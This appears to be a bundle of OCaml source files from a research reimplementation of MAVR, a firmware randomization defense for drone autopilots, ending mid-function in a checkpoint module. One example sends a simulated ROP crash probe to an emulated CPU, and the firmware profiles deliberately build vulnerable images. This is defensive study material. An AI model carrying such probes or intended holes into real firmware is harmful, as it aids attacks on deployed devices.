