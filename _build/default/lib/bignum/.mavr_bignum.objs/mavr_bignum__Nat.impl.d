lib/bignum/nat.ml: Array Buffer Format List Printf Stdlib String
