lib/mavlink/frame.mli: Format
