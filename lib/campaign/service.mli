(** Campaign-as-a-service: JSONL request/response over a local socket.

    Protocol (line-oriented JSON, one connection = one campaign):

    - the client sends exactly one line: the campaign spec object;
    - the server streams {!Progress} heartbeat lines back verbatim
      (recognizable by their ["seq"]/["reason"] fields, ending with a
      [reason:"final"] line);
    - the last line is terminal and tagged:
      [{"kind":"result","result":<campaign document>}] on success, or
      [{"kind":"error","error":<message>}].

    The server is sequential by design — one campaign at a time owns
    the worker pool; queued clients wait in the listen backlog.  What a
    spec object means (profile, trials, early-stop policy, ...) is the
    handler's business; this module only owns the transport. *)

module Json := Mavr_telemetry.Json

(** A handler turns one request into a result, pushing heartbeat lines
    through [progress] along the way.  Returning [Error] — or raising —
    produces a terminal ["error"] line; the connection always gets a
    terminal line. *)
type handler = Json.t -> progress:(string -> unit) -> (Json.t, string) result

(** [serve ~socket ?max_requests handler] binds a Unix domain socket at
    [socket] (unlinking any stale file first), accepts connections
    sequentially, and serves until [max_requests] connections have been
    handled ([None] = forever).  SIGPIPE is ignored for the process, so
    a client vanishing mid-stream surfaces as a write error, not death.
    Transient accept failures ([EINTR] from a signal landing mid-accept,
    [ECONNABORTED] from a client aborting while queued) are retried;
    only real socket errors are fatal.  Returns the number of requests
    served, or the socket-level error. *)
val serve : socket:string -> ?max_requests:int -> handler -> (int, string) result

(** [serve_stdio handler] runs one request over stdin/stdout — the same
    protocol without a socket, for CI and piping. *)
val serve_stdio : handler -> unit

(** [handle_channel handler ic oc] — one request/response exchange over
    arbitrary channels (exposed for tests). *)
val handle_channel : handler -> in_channel -> out_channel -> unit
