test/test_fuzz.ml: Alcotest Char Format Helpers List Mavr_avr Mavr_firmware Mavr_mavlink Mavr_prng QCheck String
