lib/sim/dynamics.mli: Format
