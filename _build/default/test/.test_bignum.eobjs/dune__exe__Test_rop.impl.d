test/test_rop.ml: Alcotest Array Char Helpers List Mavr_avr Mavr_core Mavr_firmware Mavr_obj Printf String
