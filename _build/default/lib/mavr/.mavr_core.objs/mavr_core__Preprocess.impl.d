lib/mavr/preprocess.ml: Char Hashtbl List Mavr_obj Printf String
