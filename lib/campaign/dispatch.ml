module Json = Mavr_telemetry.Json

type address = Unix_socket of string

let address_of_string s =
  if s = "" then Error "empty worker address"
  else if String.starts_with ~prefix:"unix:" s then
    let path = String.sub s 5 (String.length s - 5) in
    if path = "" then Error "empty unix socket path" else Ok (Unix_socket path)
  else if String.contains s ':' then
    Error (Printf.sprintf "unsupported worker address scheme in %S (only unix: for now)" s)
  else Ok (Unix_socket s)

let address_to_string = function Unix_socket p -> "unix:" ^ p

type shard = { lo : int; hi : int }

let plan ~tasks ~block ~shards =
  if tasks < 0 then invalid_arg "Campaign.Dispatch.plan: negative task count";
  if block < 1 then invalid_arg "Campaign.Dispatch.plan: block must be >= 1";
  if shards < 1 then invalid_arg "Campaign.Dispatch.plan: shards must be >= 1";
  if tasks mod block <> 0 then
    invalid_arg
      (Printf.sprintf "Campaign.Dispatch.plan: %d tasks not a multiple of block %d" tasks block);
  let cells = tasks / block in
  let s = min shards (max 1 cells) in
  List.init s (fun i ->
      let clo = cells * i / s and chi = cells * (i + 1) / s in
      { lo = clo * block; hi = chi * block })
  |> List.filter (fun sh -> sh.hi > sh.lo)

type event =
  | Assigned of { worker : int; shard : shard; attempt : int }
  | Entry_received of { worker : int; index : int; fresh : bool }
  | Heartbeat of { worker : int; seq : int }
  | Shard_done of { worker : int; shard : shard }
  | Worker_failed of { worker : int; reason : string }
  | Requeued of { shard : shard; attempts : int }

type outcome = {
  entries : (int * Checkpoint.entry) list;
  assignments : int;
  worker_failures : int;
  heartbeats : int;
}

type error =
  | Unresolved of { shard : shard; attempts : int; reason : string }
  | No_workers

let error_to_string = function
  | Unresolved { shard; attempts; reason } ->
      Printf.sprintf "shard [%d,%d) unresolved after %d attempt(s): %s" shard.lo shard.hi
        attempts reason
  | No_workers -> "no live workers"

(* ---- wire helpers ---------------------------------------------------- *)

let write_all fd s =
  let n = String.length s in
  let sent = ref 0 in
  while !sent < n do
    sent := !sent + Unix.write_substring fd s !sent (n - !sent)
  done

(* Connect with retry: a freshly spawned worker needs a moment to bind
   its socket, so ECONNREFUSED/ENOENT inside the window are "not yet",
   not "never". *)
let connect_address ~timeout_s (Unix_socket path) =
  let deadline = Unix.gettimeofday () +. timeout_s in
  let rec go () =
    let fd = Unix.socket Unix.PF_UNIX Unix.SOCK_STREAM 0 in
    match Unix.connect fd (Unix.ADDR_UNIX path) with
    | () -> Ok fd
    | exception Unix.Unix_error ((Unix.ECONNREFUSED | Unix.ENOENT | Unix.EINTR), _, _)
      when Unix.gettimeofday () < deadline ->
        (try Unix.close fd with Unix.Unix_error _ -> ());
        ignore (Unix.select [] [] [] 0.05);
        go ()
    | exception Unix.Unix_error (e, _, _) ->
        (try Unix.close fd with Unix.Unix_error _ -> ());
        Error (Unix.error_message e)
  in
  go ()

(* One worker line, classified.  Entry/header lines are the checkpoint
   stream (the shard's results); seq-bearing lines are the worker's own
   progress heartbeats; kind:result/error is terminal. *)
type line_class =
  | L_header_ok
  | L_header_bad
  | L_entry of int * Checkpoint.entry
  | L_heartbeat of int
  | L_result
  | L_error of string
  | L_garbage of string

let classify (spec : Checkpoint.spec) line =
  match Json.of_string line with
  | Error e -> L_garbage e
  | Ok j -> (
      let str k = Option.bind (Json.member k j) Json.to_str in
      let int k = Option.bind (Json.member k j) Json.to_int in
      match str "kind" with
      | Some "header" ->
          if
            str "spec_hash" = Some spec.Checkpoint.spec_hash
            && int "seed" = Some spec.Checkpoint.seed
            && int "tasks" = Some spec.Checkpoint.tasks
          then L_header_ok
          else L_header_bad
      | Some "task" -> (
          match (int "index", Json.member "result" j) with
          | Some i, Some r -> L_entry (i, Checkpoint.Result r)
          | _ -> L_garbage "malformed task entry")
      | Some "skip" -> (
          match (int "index", str "reason") with
          | Some i, Some reason -> L_entry (i, Checkpoint.Skip reason)
          | _ -> L_garbage "malformed skip entry")
      | Some "result" -> L_result
      | Some "error" -> L_error (Option.value ~default:"unknown worker error" (str "error"))
      | Some k -> L_garbage (Printf.sprintf "unknown kind %S" k)
      | None -> (
          match int "seq" with
          | Some seq -> L_heartbeat seq
          | None -> L_garbage "line with neither kind nor seq"))

(* ---- dispatcher ------------------------------------------------------ *)

type wstate = {
  w_id : int;
  w_addr : address;
  w_buf : Buffer.t;
  mutable w_fd : Unix.file_descr option;
  mutable w_dead : bool;
  mutable w_shard : shard option;
  mutable w_attempt : int;  (* attempt number of the current assignment *)
  mutable w_last : float;  (* last activity (connect or any received line) *)
}

let run ?(heartbeat_timeout_s = 30.0) ?(max_attempts = 3) ?(connect_timeout_s = 5.0) ?progress
    ?on_event ~spec ~request ~block ~workers ~shards () =
  if block < 1 then invalid_arg "Campaign.Dispatch.run: block must be >= 1";
  List.iter
    (fun sh ->
      if sh.lo < 0 || sh.hi > spec.Checkpoint.tasks || sh.lo > sh.hi then
        invalid_arg (Printf.sprintf "Campaign.Dispatch.run: shard [%d,%d) out of range" sh.lo sh.hi);
      if sh.lo mod block <> 0 || sh.hi mod block <> 0 then
        invalid_arg
          (Printf.sprintf "Campaign.Dispatch.run: shard [%d,%d) not aligned to block %d" sh.lo
             sh.hi block))
    shards;
  let emit ev = match on_event with None -> () | Some f -> f ev in
  let received : (int, Checkpoint.entry) Hashtbl.t = Hashtbl.create 1024 in
  let total = List.fold_left (fun n sh -> n + (sh.hi - sh.lo)) 0 shards in
  Option.iter (fun p -> Progress.add_total p total) progress;
  let ws =
    List.mapi
      (fun i a ->
        {
          w_id = i;
          w_addr = a;
          w_buf = Buffer.create 4096;
          w_fd = None;
          w_dead = false;
          w_shard = None;
          w_attempt = 0;
          w_last = 0.0;
        })
      workers
  in
  let nshards = List.length shards in
  (* Pending shards: (range, attempts already made, earliest re-dispatch
     time).  FIFO plus backoff. *)
  let queue = ref (List.map (fun sh -> (sh, 0, 0.0)) shards) in
  let done_shards = ref 0 in
  let assignments = ref 0 and worker_failures = ref 0 and heartbeats = ref 0 in
  let failed : error option ref = ref None in
  let requeues = ref 0 in
  Option.iter
    (fun p ->
      Progress.on_heartbeat p (fun () ->
          let active = List.length (List.filter (fun w -> w.w_shard <> None) ws) in
          let dead = List.length (List.filter (fun w -> w.w_dead) ws) in
          [
            ( "dispatch",
              Json.Obj
                [
                  ("shards", Json.Int nshards);
                  ("shards_done", Json.Int !done_shards);
                  ("shards_queued", Json.Int (List.length !queue));
                  ("shards_active", Json.Int active);
                  ("workers", Json.Int (List.length ws));
                  ("workers_dead", Json.Int dead);
                  ("redispatches", Json.Int !requeues);
                ] );
          ]))
    progress;
  (* Narrow a failed shard past its fully-received leading blocks:
     every received entry is a pure function of (spec, index), so
     nothing already streamed needs re-running; re-running a partially
     received block merely re-produces identical entries. *)
  let narrow sh =
    let lo = ref sh.lo in
    let block_complete b =
      let all = ref true in
      for i = b to b + block - 1 do
        if not (Hashtbl.mem received i) then all := false
      done;
      !all
    in
    while !lo < sh.hi && block_complete !lo do
      lo := !lo + block
    done;
    { sh with lo = !lo }
  in
  let requeue sh attempts reason =
    let sh' = narrow sh in
    if sh'.lo >= sh'.hi then begin
      incr done_shards;
      emit (Shard_done { worker = -1; shard = sh })
    end
    else if attempts >= max_attempts then
      failed := Some (Unresolved { shard = sh'; attempts; reason })
    else begin
      let backoff = 0.1 *. (2.0 ** float_of_int (attempts - 1)) in
      queue := !queue @ [ (sh', attempts, Unix.gettimeofday () +. backoff) ];
      incr requeues;
      emit (Requeued { shard = sh'; attempts })
    end
  in
  let close_fd w =
    (match w.w_fd with
    | Some fd -> ( try Unix.close fd with Unix.Unix_error _ -> ())
    | None -> ());
    w.w_fd <- None
  in
  (* Worker death: connection loss, garbage output, heartbeat silence.
     The worker leaves the pool; its shard is narrowed and requeued. *)
  let fail_worker w reason =
    close_fd w;
    w.w_dead <- true;
    incr worker_failures;
    emit (Worker_failed { worker = w.w_id; reason });
    match w.w_shard with
    | None -> ()
    | Some sh ->
        w.w_shard <- None;
        requeue sh w.w_attempt reason
  in
  (* Assignment failure with the worker still healthy (a terminal
     "error" line, or a shard that ended incomplete): the attempt is
     charged, the worker stays in the pool. *)
  let fail_assignment w reason =
    close_fd w;
    match w.w_shard with
    | None -> ()
    | Some sh ->
        w.w_shard <- None;
        requeue sh w.w_attempt reason
  in
  let finish_assignment w =
    match w.w_shard with
    | None -> close_fd w
    | Some sh ->
        let missing = ref 0 in
        for i = sh.lo to sh.hi - 1 do
          if not (Hashtbl.mem received i) then incr missing
        done;
        if !missing = 0 then begin
          close_fd w;
          w.w_shard <- None;
          incr done_shards;
          emit (Shard_done { worker = w.w_id; shard = sh })
        end
        else
          fail_assignment w
            (Printf.sprintf "worker result with %d of %d indices missing" !missing (sh.hi - sh.lo))
  in
  let handle_line w line =
    match classify spec line with
    | L_header_ok -> ()
    | L_header_bad -> fail_worker w "worker header does not match campaign spec"
    | L_entry (i, e) ->
        if i < 0 || i >= spec.Checkpoint.tasks then
          fail_worker w (Printf.sprintf "entry index %d out of range" i)
        else begin
          let fresh = not (Hashtbl.mem received i) in
          Hashtbl.replace received i e;
          if fresh then Option.iter Progress.task_done progress;
          emit (Entry_received { worker = w.w_id; index = i; fresh })
        end
    | L_heartbeat seq ->
        incr heartbeats;
        emit (Heartbeat { worker = w.w_id; seq })
    | L_result -> finish_assignment w
    | L_error e -> fail_assignment w e
    | L_garbage e -> fail_worker w ("unparsable worker line: " ^ e)
  in
  let rec drain_lines w =
    if w.w_fd <> None then begin
      let s = Buffer.contents w.w_buf in
      match String.index_opt s '\n' with
      | None -> ()
      | Some i ->
          let line = String.sub s 0 i in
          Buffer.clear w.w_buf;
          Buffer.add_substring w.w_buf s (i + 1) (String.length s - i - 1);
          if String.trim line <> "" then handle_line w line;
          drain_lines w
    end
  in
  let read_buf = Bytes.create 65536 in
  let handle_readable w fd =
    match Unix.read fd read_buf 0 (Bytes.length read_buf) with
    | exception Unix.Unix_error (Unix.EINTR, _, _) -> ()
    | exception Unix.Unix_error (e, _, _) -> fail_worker w (Unix.error_message e)
    | 0 -> fail_worker w "connection closed mid-shard"
    | n ->
        w.w_last <- Unix.gettimeofday ();
        Buffer.add_subbytes w.w_buf read_buf 0 n;
        drain_lines w
  in
  let try_assign () =
    let now = Unix.gettimeofday () in
    List.iter
      (fun w ->
        if (not w.w_dead) && w.w_shard = None && !failed = None then
          let ready, later = List.partition (fun (_, _, nb) -> nb <= now) !queue in
          match ready with
          | [] -> ()
          | (sh, attempts, _) :: rest -> (
              queue := rest @ later;
              match connect_address ~timeout_s:connect_timeout_s w.w_addr with
              | Error e ->
                  (* the shard was popped but never assigned; the worker is
                     unreachable — fail it and requeue the shard directly *)
                  w.w_dead <- true;
                  incr worker_failures;
                  emit (Worker_failed { worker = w.w_id; reason = "connect: " ^ e });
                  requeue sh (attempts + 1) ("connect: " ^ e)
              | Ok fd -> (
                  let line = Json.to_string (request ~lo:sh.lo ~hi:sh.hi) ^ "\n" in
                  match write_all fd line with
                  | exception Unix.Unix_error (e, _, _) ->
                      (try Unix.close fd with Unix.Unix_error _ -> ());
                      w.w_dead <- true;
                      incr worker_failures;
                      emit (Worker_failed { worker = w.w_id; reason = Unix.error_message e });
                      requeue sh (attempts + 1) (Unix.error_message e)
                  | () ->
                      Buffer.clear w.w_buf;
                      w.w_fd <- Some fd;
                      w.w_shard <- Some sh;
                      w.w_attempt <- attempts + 1;
                      w.w_last <- Unix.gettimeofday ();
                      incr assignments;
                      emit (Assigned { worker = w.w_id; shard = sh; attempt = attempts + 1 }))))
      ws
  in
  let check_timeouts () =
    let now = Unix.gettimeofday () in
    List.iter
      (fun w ->
        if w.w_shard <> None && now -. w.w_last > heartbeat_timeout_s then
          fail_worker w
            (Printf.sprintf "heartbeat timeout (%.1fs of silence)" (now -. w.w_last)))
      ws
  in
  if ws = [] then Error No_workers
  else begin
    let result = ref None in
    while !result = None do
      if !failed <> None then result := Some (Error (Option.get !failed))
      else if !done_shards >= nshards then
        result :=
          Some
            (Ok
               {
                 entries =
                   Hashtbl.fold (fun i e acc -> (i, e) :: acc) received []
                   |> List.sort (fun (a, _) (b, _) -> compare a b);
                 assignments = !assignments;
                 worker_failures = !worker_failures;
                 heartbeats = !heartbeats;
               })
      else if List.for_all (fun w -> w.w_dead) ws then
        result :=
          Some
            (Error
               (match !queue with
               | (sh, attempts, _) :: _ -> Unresolved { shard = sh; attempts; reason = "no live workers" }
               | [] -> No_workers))
      else begin
        try_assign ();
        let fds =
          List.filter_map (fun w -> if w.w_shard <> None then w.w_fd else None) ws
        in
        if fds <> [] then begin
          match Unix.select fds [] [] 0.2 with
          | exception Unix.Unix_error (Unix.EINTR, _, _) -> ()
          | readable, _, _ ->
              List.iter
                (fun w ->
                  match w.w_fd with
                  | Some fd when List.memq fd readable -> handle_readable w fd
                  | _ -> ())
                ws
        end
        else ignore (Unix.select [] [] [] 0.05);
        check_timeouts ()
      end
    done;
    List.iter close_fd ws;
    Option.get !result
  end
