lib/firmware/layout.mli:
