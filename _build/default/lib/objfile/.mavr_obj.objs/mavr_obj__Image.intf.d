lib/objfile/image.mli: Format Mavr_asm
