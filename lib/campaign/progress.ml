module Json = Mavr_telemetry.Json

type t = {
  sink : string -> unit;
  interval_s : float;
  started : float;
  done_ : int Atomic.t;
  total : int Atomic.t;
  seq : int Atomic.t;
  lock : Mutex.t;  (* serializes sink writes; held only via try_lock on the hot path *)
  mutable last_emit : float;  (* guarded by [lock] *)
  mutable providers : (unit -> (string * Json.t) list) list;
}

let create ?(interval_s = 0.5) ~sink () =
  if interval_s < 0.0 then invalid_arg "Campaign.Progress.create: negative interval";
  {
    sink;
    interval_s;
    started = Clock.wall ();
    done_ = Atomic.make 0;
    total = Atomic.make 0;
    seq = Atomic.make 0;
    lock = Mutex.create ();
    last_emit = neg_infinity;
    providers = [];
  }

let add_total t n =
  if n < 0 then invalid_arg "Campaign.Progress.add_total: negative count";
  ignore (Atomic.fetch_and_add t.total n)

(* Registration takes the sink lock: [emit_locked] traverses [providers]
   under the same lock from whichever domain is emitting, so an unlocked
   [<-] here would be a cross-domain data race on the list cell.
   Mid-run registration is supported — the provider joins every line
   emitted after this call returns; it never appears retroactively. *)
let on_heartbeat t f =
  Mutex.lock t.lock;
  t.providers <- t.providers @ [ f ];
  Mutex.unlock t.lock
let tasks_done t = Atomic.get t.done_
let total t = Atomic.get t.total
let lines_emitted t = Atomic.get t.seq

(* Caller holds [t.lock]. *)
let emit_locked t ~reason =
  let now = Clock.wall () in
  let d = Atomic.get t.done_ and total = Atomic.get t.total in
  let elapsed = now -. t.started in
  let rate = if elapsed > 0.0 then float_of_int d /. elapsed else 0.0 in
  let eta = if rate > 0.0 then float_of_int (max 0 (total - d)) /. rate else 0.0 in
  let detail = List.concat_map (fun f -> f ()) t.providers in
  let seq = Atomic.fetch_and_add t.seq 1 + 1 in
  t.last_emit <- now;
  t.sink
    (Json.to_string
       (Json.Obj
          ([
             ("seq", Json.Int seq);
             ("reason", Json.String reason);
             ("wall_s", Json.Float elapsed);
             ("done", Json.Int d);
             ("total", Json.Int total);
             ("rate_per_s", Json.Float rate);
             ("eta_s", Json.Float eta);
           ]
          @ detail)))

let task_done t =
  let d = Atomic.fetch_and_add t.done_ 1 + 1 in
  if d >= Atomic.get t.total then begin
    (* Frontier completion: this is the one line consumers key off to know
       the phase finished, so it must not be droppable.  Block for the lock
       instead of try_lock — the old try_lock path silently lost the
       terminal line whenever another domain happened to be mid-emission at
       the instant the last task completed.  Note a multi-phase run (e.g.
       census then grid, each adding to [total]) crosses done = total once
       per phase frontier, so a stream may carry several "final" lines; the
       last one always has done = total for the whole run. *)
    Mutex.lock t.lock;
    Fun.protect
      ~finally:(fun () -> Mutex.unlock t.lock)
      (fun () -> emit_locked t ~reason:"final")
  end
  else if Mutex.try_lock t.lock then
    (* try_lock: if another domain is mid-emission, skip — its line will
       carry this completion anyway (counters are read at emit time). *)
    Fun.protect
      ~finally:(fun () -> Mutex.unlock t.lock)
      (fun () ->
        let now = Clock.wall () in
        if now -. t.last_emit >= t.interval_s then emit_locked t ~reason:"heartbeat")

let emit t ~reason =
  Mutex.lock t.lock;
  Fun.protect ~finally:(fun () -> Mutex.unlock t.lock) (fun () -> emit_locked t ~reason)
