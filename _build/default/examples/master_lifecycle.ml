(* The MAVR master processor's full lifecycle (§V-A, §VI):

     provisioning -> scheduled randomization across boots -> streaming
     reprogramming within the 1284P's SRAM -> attack detection ->
     in-flight recovery -> flash-wear accounting.

     dune exec examples/master_lifecycle.exe
*)

module Cpu = Mavr_avr.Cpu
module Image = Mavr_obj.Image
module Master = Mavr_core.Master
module Rop = Mavr_core.Rop
module Lifetime = Mavr_core.Lifetime

let () =
  print_endline "== MAVR master-processor lifecycle ==\n";
  let build =
    Mavr_firmware.Build.build (Mavr_firmware.Profile.tiny ~n:100 ~seed:2024)
      Mavr_firmware.Profile.mavr
  in

  (* ---- provisioning: the only entry point for new code (§V-A1) ---- *)
  let config = { Master.default_config with randomize_every_boots = 3 } in
  let m = Master.create ~config () in
  Master.provision m build.image;
  Format.printf "provisioned: %d bytes of preprocessed HEX on the external flash chip@."
    (String.length (Master.stored_hex m));

  (* ---- boots under the §V-C schedule (randomize every 3rd boot) ---- *)
  let app = Cpu.create () in
  for _ = 1 to 5 do
    Master.boot m ~app;
    ignore (Cpu.run app ~max_cycles:100_000)
  done;
  Format.printf "@.after 5 boots (schedule: every 3rd randomizes):@.";
  List.iter (fun e -> Format.printf "  %a@." Master.pp_event e) (Master.events m);
  Format.printf "  flash programmings so far: %d (pages: %d)@." (Master.reflashes m)
    (Master.pages_programmed m);
  Format.printf "  streaming randomizer peak working set: %d B (ATmega1284P has %d B SRAM)@."
    (Master.peak_working_set m)
    Mavr_avr.Device.atmega1284p.sram_bytes;

  (* ---- a failed attack mid-flight ---- *)
  print_endline "\nan attacker probes with a stale gadget address...";
  let ti = Rop.analyze build in
  List.iter (Cpu.uart_send app) (Rop.crash_probe ti);
  let detections = Master.supervise m ~app ~cycles:2_000_000 in
  Format.printf "  detections: %d; application %s@." detections
    (if Cpu.halted app = None && Cpu.watchdog_feeds app > 0 then
       "recovered on a fresh layout" else "DEAD");

  (* ---- wear-out projection (§V-C / §VI-A) ---- *)
  print_endline "\nflash-endurance projection at 10 boots/day:";
  List.iter
    (fun k ->
      let policy = { Lifetime.randomize_every_boots = k } in
      Format.printf "  randomize every %3d boots: %.1f years to wear-out, %d-boot layout staleness@."
        k
        (Lifetime.years_until_wearout policy
           ~endurance:Mavr_avr.Device.atmega2560.flash_endurance ~attack_rate_per_boot:0.01
           ~boots_per_day:10.0)
        (Lifetime.layout_exposure_boots policy))
    [ 1; 3; 20; 100 ];

  (* ---- the cost ledger (§V-A4) ---- *)
  Format.printf "@.bill of materials: master $%.2f + external flash $%.2f = $%.2f (+%.1f%% of the $159.99 APM)@."
    Mavr_avr.Device.atmega1284p.unit_price_usd Mavr_avr.Device.External_flash.unit_price_usd
    (Mavr_avr.Device.atmega1284p.unit_price_usd +. Mavr_avr.Device.External_flash.unit_price_usd)
    (100.
    *. (Mavr_avr.Device.atmega1284p.unit_price_usd +. Mavr_avr.Device.External_flash.unit_price_usd)
    /. 159.99)
