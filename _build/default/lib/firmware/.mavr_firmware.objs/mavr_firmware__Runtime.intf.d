lib/firmware/runtime.mli: Mavr_asm Profile
