(** Arbitrary-precision natural numbers.

    A minimal stand-in for [zarith] (not available in this environment),
    sufficient for the exact brute-force-effort arithmetic of the MAVR
    security analysis: factorials of four-digit arguments, additions,
    halving and decimal printing.  Numbers are immutable. *)

type t

val zero : t
val one : t

(** [of_int n] converts a non-negative [n].
    @raise Invalid_argument on negative input. *)
val of_int : int -> t

(** [to_int n] converts back when the value fits in an OCaml [int].
    @raise Failure when the value is too large. *)
val to_int : t -> int

val add : t -> t -> t

(** [sub a b] is [a - b].
    @raise Invalid_argument when [b > a] (naturals only). *)
val sub : t -> t -> t

val mul : t -> t -> t

(** [mul_int a k] multiplies by a small non-negative integer. *)
val mul_int : t -> int -> t

(** [divmod_int a k] is [(a / k, a mod k)] for [0 < k <= 2^30]. *)
val divmod_int : t -> int -> t * int

val compare : t -> t -> int
val equal : t -> t -> bool

(** [factorial n] is [n!] computed exactly. *)
val factorial : int -> t

(** [log2 n] is an estimate of the base-2 logarithm of [n], accurate to
    well under one bit for the magnitudes used here.  [log2 zero] is
    [neg_infinity]. *)
val log2 : t -> float

(** [log2_factorial n] is [log2 (n!)] computed in log space (no bignum),
    exact enough to reproduce the paper's entropy figures. *)
val log2_factorial : int -> float

(** Number of decimal digits in the canonical representation. *)
val digits : t -> int

val to_string : t -> string

(** [of_string s] parses a decimal literal (no sign, no separators).
    @raise Invalid_argument on malformed input. *)
val of_string : string -> t

val pp : Format.formatter -> t -> unit
