test/test_sim.ml: Alcotest Float Helpers List Mavr_avr Mavr_core Mavr_firmware Mavr_mavlink Mavr_sim
