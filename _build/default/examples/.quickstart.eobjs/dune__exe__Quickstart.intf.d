examples/quickstart.mli:
