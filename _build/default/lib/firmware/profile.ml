type t = { name : string; n_functions : int; target_size : int; seed : int }

let arduplane = { name = "Arduplane"; n_functions = 917; target_size = 221608; seed = 0x41504C31 }
let arducopter = { name = "Arducopter"; n_functions = 1030; target_size = 244532; seed = 0x41435031 }
let ardurover = { name = "Ardurover"; n_functions = 800; target_size = 177870; seed = 0x41525631 }

let all = [ arduplane; arducopter; ardurover ]

let tiny ~n ~seed =
  { name = Printf.sprintf "tiny-%d" n; n_functions = n; target_size = 0; seed }

type toolchain = { relax : bool; call_prologues : bool; vulnerable : bool }

let stock = { relax = true; call_prologues = true; vulnerable = true }
let mavr = { relax = false; call_prologues = false; vulnerable = true }
let patched = { relax = false; call_prologues = false; vulnerable = false }

let pp fmt t =
  Format.fprintf fmt "%s (%d functions, %d bytes target)" t.name t.n_functions t.target_size
