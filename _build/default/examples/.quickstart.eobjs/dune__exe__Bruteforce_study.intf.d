examples/bruteforce_study.mli:
