module Json = Mavr_telemetry.Json

let version = 1

type spec = { spec_hash : string; seed : int; tasks : int }
type entry = Result of Json.t | Skip of string

exception Corrupt of string

(* FNV-1a 64 over the canonical compact JSON rendering of the spec
   fields.  Stable across processes (no polymorphic-hash dependence),
   cheap, and any field change — profile, horizon, trials, seed, fault
   profile, early-stop policy, tracing — flips the hash and makes a
   stale checkpoint unresumable instead of silently wrong. *)
let hash_fields fields =
  let s = Json.to_string (Json.Obj fields) in
  let h = ref 0xcbf29ce484222325L in
  String.iter
    (fun c -> h := Int64.mul (Int64.logxor !h (Int64.of_int (Char.code c))) 0x100000001b3L)
    s;
  Printf.sprintf "%016Lx" !h

type t = {
  path : string option;  (* None: stream-only, no snapshot files *)
  stream : (string -> unit) option;
  every : int;
  spec : spec;
  lock : Mutex.t;
  entries : (int, entry) Hashtbl.t;  (* guarded by [lock] *)
  mutable since_snapshot : int;  (* guarded by [lock] *)
  mutable snapshots : int;  (* guarded by [lock] *)
  mutable abort_after : int option;  (* test hook; guarded by [lock] *)
  mutable recorded : int;  (* live [record]s this process; guarded by [lock] *)
}

let header_line spec =
  Json.to_string
    (Json.Obj
       [
         ("kind", Json.String "header");
         ("version", Json.Int version);
         ("spec_hash", Json.String spec.spec_hash);
         ("seed", Json.Int spec.seed);
         ("tasks", Json.Int spec.tasks);
       ])

let entry_line index = function
  | Result r ->
      Json.to_string
        (Json.Obj [ ("kind", Json.String "task"); ("index", Json.Int index); ("result", r) ])
  | Skip reason ->
      Json.to_string
        (Json.Obj
           [ ("kind", Json.String "skip"); ("index", Json.Int index); ("reason", Json.String reason) ])

let sorted_entries_locked t =
  Hashtbl.fold (fun i e acc -> (i, e) :: acc) t.entries []
  |> List.sort (fun (a, _) (b, _) -> compare a b)

(* A snapshot's temp file is pid-unique: two processes pointed (even by
   misconfiguration) at the same checkpoint path race only at the atomic
   rename, never inside each other's half-written temp file. *)
let tmp_name path = Printf.sprintf "%s.%d.tmp" path (Unix.getpid ())

(* Remove leftover temp files from earlier (crashed) processes: anything
   shaped [basename.*.tmp] next to [path], including the legacy fixed
   [basename.tmp] name.  The live snapshot file itself never matches. *)
let unlink_stale_tmps path =
  let dir = Filename.dirname path and base = Filename.basename path in
  match Sys.readdir dir with
  | exception Sys_error _ -> ()
  | names ->
      Array.iter
        (fun name ->
          if
            String.starts_with ~prefix:(base ^ ".") name
            && Filename.check_suffix name ".tmp"
          then try Sys.remove (Filename.concat dir name) with Sys_error _ -> ())
        names

(* [Unix.fsync] on a directory is how POSIX persists a rename; some
   filesystems refuse it (EINVAL), which is as durable as they get. *)
let fsync_dir dir =
  match Unix.openfile dir [ Unix.O_RDONLY ] 0 with
  | exception Unix.Unix_error _ -> ()
  | fd ->
      (try Unix.fsync fd with Unix.Unix_error _ -> ());
      (try Unix.close fd with Unix.Unix_error _ -> ())

let write_string_fd fd s =
  let n = String.length s in
  let written = ref 0 in
  while !written < n do
    written := !written + Unix.write_substring fd s !written (n - !written)
  done

(* Full-rewrite snapshot: header + every entry sorted by index, written
   to a sibling pid-unique temp file, fsynced, then renamed over [path]
   (and the directory fsynced so the rename itself survives power
   loss).  The rename is the commit point — a reader (or a resume after
   SIGKILL at any instant) sees either the previous complete snapshot or
   this one, never a torn prefix.  Entries are sorted so the snapshot
   bytes are a pure function of the completed-task set, independent of
   completion order.  On any failure (ENOSPC, EIO, ...) the temp file is
   unlinked rather than leaked. *)
let snapshot_locked t =
  match t.path with
  | None -> ()
  | Some path ->
      let b = Buffer.create 4096 in
      Buffer.add_string b (header_line t.spec);
      Buffer.add_char b '\n';
      List.iter
        (fun (i, e) ->
          Buffer.add_string b (entry_line i e);
          Buffer.add_char b '\n')
        (sorted_entries_locked t);
      let tmp = tmp_name path in
      Fun.protect
        ~finally:(fun () ->
          (* After a successful rename the temp file no longer exists;
             if it still does, the write or rename failed — clean up. *)
          if Sys.file_exists tmp then try Sys.remove tmp with Sys_error _ -> ())
        (fun () ->
          let fd = Unix.openfile tmp [ Unix.O_WRONLY; Unix.O_CREAT; Unix.O_TRUNC ] 0o644 in
          Fun.protect
            ~finally:(fun () -> try Unix.close fd with Unix.Unix_error _ -> ())
            (fun () ->
              write_string_fd fd (Buffer.contents b);
              Unix.fsync fd);
          Sys.rename tmp path;
          fsync_dir (Filename.dirname path));
      t.since_snapshot <- 0;
      t.snapshots <- t.snapshots + 1

let emit_stream t line = match t.stream with None -> () | Some sink -> sink line

let create ?path ?stream ?(every = 32) spec =
  if every < 1 then invalid_arg "Campaign.Checkpoint.create: every must be >= 1";
  if spec.tasks < 0 then invalid_arg "Campaign.Checkpoint.create: negative task count";
  let t =
    {
      path;
      stream;
      every;
      spec;
      lock = Mutex.create ();
      entries = Hashtbl.create 256;
      since_snapshot = 0;
      snapshots = 0;
      abort_after = None;
      recorded = 0;
    }
  in
  Option.iter unlink_stale_tmps path;
  emit_stream t (header_line spec);
  (* An initial header-only snapshot, so the file exists (and the path is
     proven writable) before any task runs. *)
  Mutex.lock t.lock;
  Fun.protect ~finally:(fun () -> Mutex.unlock t.lock) (fun () -> snapshot_locked t);
  t

(* ---- load / resume --------------------------------------------------- *)

let load ~path =
  let ( let* ) = Result.bind in
  let* content =
    try
      let ic = open_in_bin path in
      let n = in_channel_length ic in
      let s = really_input_string ic n in
      close_in ic;
      Ok s
    with Sys_error e -> Error e
  in
  let lines =
    String.split_on_char '\n' content |> List.filter (fun l -> String.trim l <> "")
  in
  let* header, rest =
    match lines with
    | [] -> Error "empty checkpoint file"
